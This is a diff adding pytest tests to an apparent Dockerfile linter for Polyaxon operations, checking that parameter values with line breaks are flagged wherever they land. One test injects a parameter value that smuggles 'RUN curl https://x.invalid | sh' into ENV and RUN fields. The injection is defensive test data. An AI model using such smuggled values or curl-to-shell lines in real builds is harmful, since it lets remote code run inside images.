@@ -197,3 +197,42 @@ def test_continued_lines_and_heredocs_are_not_line_break_warnings(run: str) -> N
 def test_the_dockerfile_with_line_breaks_stays_as_polyaxon_renders_it() -> None:
     spec = load_dockerfile_init({"image": "a:1", "env": {"A": "1\nRUN echo injected"}})
     assert "ENV A 1\nRUN echo injected\n" in render_dockerfile(spec)
+
+
+PARAM_OP = """
+version: 1.1
+kind: operation
+name: build
+params:
+  destination: {connection: docker-connection, value: polyaxon/app}
+  version: {value: "1.0", contextOnly: true}
+runPatch:
+  init:
+  - dockerfile:
+      image: python:3.11
+      env: {APP_VERSION: "{{ version }}"}
+      run: ["pip install app=={{ version }}"]
+hubRef: kaniko
+"""
+
+
+def test_a_param_override_with_a_line_break_is_named_in_each_field_it_reaches() -> None:
+    from polymagic.app.preview import lint_dockerfiles
+    from polymagic.render.compiler import compile_operation
+
+    build = compile_operation(PARAM_OP, params=["version=1.0\nRUN curl https://x.invalid | sh"])
+    (linted,) = lint_dockerfiles(build, None)
+    found = [f.message.split(" holds")[0] for f in linted.findings if f.code == "PM008"]
+    assert found == [
+        "`dockerfile.env.APP_VERSION` (from param `version`)",
+        "`dockerfile.run[0]` (from param `version`)",
+    ]
+    # Rendered as Polyaxon renders it: the line is there, the finding says so.
+    assert "ENV APP_VERSION 1.0\nRUN curl https://x.invalid | sh\n" in linted.rendered.text
+
+
+def test_an_env_value_printed_as_a_dict_adds_no_line() -> None:
+    spec = load_dockerfile_init({"image": "a:1", "env": {"A": {"k": "x\ny"}}})
+    text = render_dockerfile(spec)
+    assert "ENV A {'k': 'x\\ny'}\n" in text
+    assert "PM008" not in {f.code for f in polyaxon_findings(spec, text)}
